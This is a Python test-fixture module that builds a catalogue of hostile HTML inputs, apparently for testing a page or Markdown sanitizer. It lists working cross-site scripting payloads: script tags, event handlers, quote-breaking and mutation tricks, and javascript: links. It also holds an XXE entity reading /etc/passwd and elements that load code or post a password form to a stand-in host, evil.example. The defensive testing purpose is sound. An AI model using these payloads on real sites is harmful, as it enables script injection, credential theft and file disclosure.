"""Texts that are HTML, or become HTML."""

from __future__ import annotations

from tests.hostile.payload import group, numbered

RUN = "window.__fired=1;alert(1)"

SCRIPTS = group(
    "a script element",
    script=f"<script>{RUN}</script>",
    script_in_capitals=f"<ScRiPt >{RUN}</sCrIpT >",
    script_by_slash=f"<script/x>{RUN}</script>",
    script_unclosed=f"<script>{RUN}//",
    script_from_elsewhere="<script src=//evil.example/x></script>",
    script_module="<script type=module>import('//evil.example/x')</script>",
    script_nested=f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    script_after_title=f"</title><script>{RUN}</script>",
    script_after_script=f"</script><script>{RUN}</script>",
    script_after_textarea=f"</textarea></template></noscript><script>{RUN}</script>",
    script_after_style=f"</style></xmp></noembed><script>{RUN}</script>",
    script_after_quote=f"'\"><script>{RUN}</script>",
    script_hidden_in_comment=f"<!--<script>--><script>{RUN}</script>",
    script_never_closed="<!--<script>",
    script_in_entities=f"&lt;script&gt;{RUN}&lt;/script&gt;",
    script_in_numbers=f"&#60;script&#62;{RUN}&#60;/script&#62;",
    script_twice_escaped=f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    script_wide=f"＜script＞{RUN}＜/script＞",
    script_json_escape="\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
HANDLERS = numbered(
    "handler",
    "an event handler on an element",
    (
        f"<{tag} {handler}={RUN}{more}>"
        for tag, handler, more in (
            ("img src=x", "onerror", ""),
            ("img src=x", "ONERROR", " "),
            ("img/src=x", "/onerror", "/"),
            ("img src='x'", "onerror\n", ""),
            ("svg", "onload", ""),
            ("svg/", "onload", "/"),
            ("body", "onload", ""),
            ("body", "onpageshow", ""),
            ("input", "autofocus onfocus", ""),
            ("select", "autofocus onfocus", ""),
            ("textarea", "autofocus onfocus", ""),
            ("details open", "ontoggle", ""),
            ("video", "onloadstart", "><source src=x"),
            ("video><source", "onerror", ""),
            ("audio src=x", "onerror", ""),
            ("marquee", "onstart", ""),
            ("object data=x", "onerror", ""),
            ("p tabindex=1", "onfocus", " autofocus"),
            ("a href=#x", "onclick", ">x</a"),
            ("style", "onload", "></style"),
            ("link rel=stylesheet href=/css/base.css", "onload", ""),
            ("iframe", "onload", ""),
            ("x style=animation-name:rotation", "onanimationstart", ""),
            ("x contenteditable", "onblur", ">x</x"),
        )
    ),
)
HANDLER_TRICKS = group(
    "an event handler out of an attribute or a broken element",
    handler_out_of_double_quotes=f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    handler_out_of_single_quotes=f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    handler_out_of_backticks=f"` onmouseover={RUN} x=`",
    handler_without_quotes=f" onmouseover={RUN} ",
    handler_after_entity=f"&quot; onfocus=&quot;{RUN}&quot; autofocus x=&quot;",
    handler_in_unclosed_element=f"<img src=x onerror={RUN}",
    handler_in_unclosed_quote=f'<img alt="<img src=x onerror={RUN}>',
    handler_in_attribute=f'<p title="</p><img src=x onerror={RUN}>">',
    handler_in_namespace=f"<svg:img src=x onerror={RUN}>",
    handler_by_mutation=f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={RUN}>",
    handler_by_form_mutation=(
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>"
    ),
    handler_by_noscript=f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    handler_by_select=f"<select><template><img src=x onerror={RUN}></template></select>",
    attribute_list=f"Teksti {{: onclick={RUN} #kk-texts .kk-search style=display:none }}",
    attribute_list_below=f'Teksti\n{{: onmouseover="{RUN}" id=content }}',
    attribute_of_fence=f"``` {{ .html onclick={RUN} }}\nteksti\n```",
    markdown_in_html=f'<div markdown="1" onclick={RUN}>\n\n*teksti*\n\n</div>',
    markdown_in_block=f"<section markdown>\n<img src=x onerror={RUN}>\n</section>",
)
BLOCKS = group(
    "an element that a text may not have",
    block_unclosed="<div><table><tr><td><select><option>",
    block_closing="</div></main></section></body></html>",
    comment_unclosed="<!-- kommentti",
    comment_odd=f"<!--><img src=x onerror={RUN}>-->",
    comment_of_browsers=f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    declaration="<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    instruction=f"<?php echo 1 ?><?x><img src=x onerror={RUN}>",
    cdata='<![><img src="]>',
    cdata_whole=f"<![CDATA[<script>{RUN}</script>]]>",
    plaintext="<plaintext>",
    svg_script=f"<svg><script>{RUN}</script></svg>",
    svg_link=f'<svg><a xlink:href="javascript:{RUN}"><text y=20>x</text></a></svg>',
    svg_animation=f'<svg><a><animate attributeName=href values="javascript:{RUN}"/></a></svg>',
    svg_use='<svg><use href="//evil.example/x#x"/></svg>',
    svg_foreign=f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    math_link=f'<math><maction xlink:href="javascript:{RUN}">x</maction></math>',
    style="<style>@import '//evil.example/x';body{background:url(//evil.example/x)}</style>",
    style_attribute='<p style="background:url(//evil.example/x);position:fixed;inset:0">x</p>',
    style_expression=f'<p style="width:expression({RUN})">x</p>',
    style_sheet='<link rel="stylesheet" href="//evil.example/x">',
    prefetch='<link rel="prefetch" href="//evil.example/x">',
    refresh='<meta http-equiv="refresh" content="0;url=//evil.example/">',
    base='<base href="//evil.example/">',
    frame=f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    frame_of_script=f'<iframe src="javascript:parent.{RUN}"></iframe>',
    frames='<frameset><frame src="//evil.example/"></frameset>',
    form='<form action="//evil.example/"><input name=password><button>Kirjaudu</button></form>',
    form_of_button=f'<button form=kk-search formaction="javascript:{RUN}">x</button>',
    embed='<embed src="//evil.example/x"><object data="//evil.example/x"></object>',
    portal='<portal src="//evil.example/"></portal><fencedframe></fencedframe>',
    picture_set='<img srcset="//evil.example/x 1x"><source srcset="//evil.example/x">',
    picture_of_input='<input type=image src="//evil.example/x"><video poster="//evil.example/x">',
    dialog="<dialog open>Kirjaudu</dialog><p popover>x</p>",
    shadow=f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    import_map='<script type="importmap">{"imports":{"./main.js":"//evil.example/x"}}</script>',
    rules_of_loading=(
        '<script type="speculationrules">{"prefetch":[{"urls":["//evil.example/"]}]}</script>'
    ),
)
TEXT_STYLES = group(
    "a style out of a text",
    css_url="url(//evil.example/x)",
    css_expression=f"expression({RUN})",
    css_out="} * { background: url(//evil.example/x) } /*",
    css_import="@import '//evil.example/x';",
)
MARKUP = SCRIPTS + HANDLERS + HANDLER_TRICKS + BLOCKS + TEXT_STYLES
